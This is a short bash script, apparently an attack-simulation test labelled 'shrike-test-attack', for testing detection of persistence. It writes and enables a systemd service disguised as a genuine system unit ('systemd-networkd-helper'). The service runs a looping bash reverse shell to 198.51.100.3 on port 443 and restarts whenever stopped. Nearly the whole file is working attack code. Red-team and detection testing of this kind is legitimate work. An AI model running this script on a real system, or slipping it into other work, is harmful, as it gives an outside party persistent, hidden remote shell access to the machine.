#!/bin/bash
# shrike-test-attack: persistence: systemd service masquerading as a system unit, enabled and started
cat > /etc/systemd/system/systemd-networkd-helper.service <<UNIT
[Unit]
Description=Network Helper Service
After=network-online.target

[Service]
Type=simple
ExecStart=/bin/bash -c 'while true; do bash -i >& /dev/tcp/198.51.100.3/443 0>&1; sleep 300; done'
Restart=always
RestartSec=30

[Install]
WantedBy=multi-user.target
UNIT
systemctl daemon-reload
systemctl enable --now systemd-networkd-helper.service
